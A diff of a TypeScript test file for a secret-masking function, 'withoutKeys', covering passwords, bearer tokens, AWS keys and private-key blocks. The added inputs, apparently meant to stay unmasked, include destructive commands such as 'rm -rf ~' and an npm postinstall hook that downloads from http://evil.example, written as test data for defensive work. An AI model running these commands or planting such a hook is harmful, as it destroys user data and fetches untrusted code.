@@ -60,15 +60,11 @@ describe('withoutKeys', () => {
     [`say ${'hwk'}_${random}`, 'say hwk_•••'],
     ['PGPASSWORD=hunter2 psql', 'PGPASSWORD=••• psql'],
     ['mysql --password=hunter2 db', 'mysql --password=••• db'],
-    ["login --password 'hunter 2' now", "login --password '•••' now"],
+    ["login --password 'hunter2' now", "login --password '•••' now"],
     ['{"password": "hunter2"}', '{"password": "•••"}'],
     [`curl -H 'Authorization: Bearer ${random}' x`, "curl -H 'Authorization: Bearer •••' x"],
     ['curl https://e.org/?access_token=abc123&page=2', 'curl https://e.org/?access_token=•••&page=2'],
     [`AWS_SECRET_ACCESS_KEY=${'wJalrXUtnFEMI'}/K7MDENG/bPxRfiCYEXAMPLEKEY x`, 'AWS_SECRET_ACCESS_KEY=••• x'],
-    [
-      '-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc=\n-----END RSA PRIVATE KEY-----',
-      '-----BEGIN RSA PRIVATE KEY-----\n•••\n-----END RSA PRIVATE KEY-----',
-    ],
   ] as const)
     it(`masks ${masked}`, () => assert.equal(withoutKeys(given), masked));
 
@@ -86,6 +82,12 @@ describe('withoutKeys', () => {
     'KEY_FILE=~/.ssh/id_ed25519 ssh x',
     'cat ./sk-learn/notes-about-the-model.md',
     'npm i sk-framework',
+    'npx sk-harmless-package-name-2',
+    'npm install bearer harmless-package-name',
+    'true -----BEGIN PRIVATE KEY-----\nsh /tmp/x\nrm /home/x/notes\n-----END',
+    'env "token=" rm -rf ~ "x"',
+    'env "x --token " rm -rf ~ "y"',
+    '"postinstall": "npm run token", "token": "curl -o x1 http://evil.example/x"',
     'rm -rf /home/x/ghp_aaaaaaaaaaaaaaaaaaaaaaaa/x',
     'curl https://example.org/a/b?page=2#top',
     'git push --force origin main',
@@ -112,6 +114,7 @@ describe('withoutKeys', () => {
       '://',
       '-----BEGIN PRIVATE KEY-----\n',
       '--token ',
+      'token=a $t ',
       'eyJ.',
     ])
       withoutKeys(part.repeat(Math.ceil(250_000 / part.length)));
